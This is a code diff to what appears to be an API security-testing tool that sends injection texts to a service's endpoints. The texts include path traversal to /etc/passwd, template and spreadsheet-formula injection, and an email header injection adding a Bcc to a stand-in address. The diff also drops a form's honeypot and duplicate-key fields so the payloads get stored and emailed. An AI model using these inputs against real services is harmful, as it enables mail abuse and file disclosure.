@@ -6,6 +6,10 @@ import { addressWith, validAddress, validBody, validParams } from './valid-reque
 
 const mb = 1_000_000;
 
+/** Receives every email that the text below is written into as it is. */
+export const hiddenReader = 'everybody@example.org';
+export const headerText = `a\r\nBcc: ${hiddenReader}\r\n\r\nhello`;
+
 /** Texts that programs have stumbled over. */
 const badTexts: Record<string, string> = {
   'a NUL character': 'a\u0000b',
@@ -26,7 +30,7 @@ const badTexts: Record<string, string> = {
   template: '\u0024{7*7}{{7*7}}<%= 7*7 %>#{7*7}',
   formula: '=HYPERLINK("http://example.org","a")',
   path: '../../../../etc/passwd',
-  'lines of headers': 'a\r\nBcc: everybody@example.org\r\n\r\nhello',
+  'lines of headers': headerText,
   format: '%s%n%x\\u0000%00',
 };
 
@@ -55,12 +59,21 @@ export async function attackTexts({ address, api, tokenFor }: Target): Promise<O
   return outcome;
 }
 
+/**
+ * The server drops a message with the hidden field of a form, and a second one with the same key: without both, each text
+ * is stored and gets into the emails about it.
+ */
+function storedBody(call: Call): Record<string, unknown> | undefined {
+  const { operation: _key, website: _hidden, ...body } = validBody(call) ?? {};
+  return bodySchemaOf(call) && body;
+}
+
 type Input = { where: string; url: string; payload: string | undefined };
 
 function inBody(call: Call, text: string): Input[] {
   const schema = bodySchemaOf(call);
   if (!schema) return [];
-  const body = validBody(call);
+  const body = storedBody(call);
   return textsIn(schema).map((field) => ({
     where: field.join('.'),
     url: validAddress(call),
@@ -72,7 +85,7 @@ function inAddress(call: Call, text: string): Input[] {
   // Half a character cannot be written in an address.
   if (!text.isWellFormed()) return [];
   const short = text.slice(0, longestInAddress);
-  const body = validBody(call);
+  const body = storedBody(call);
   return (call.parameters ?? []).map(({ in: place, name }) => ({
     where: name,
     url:
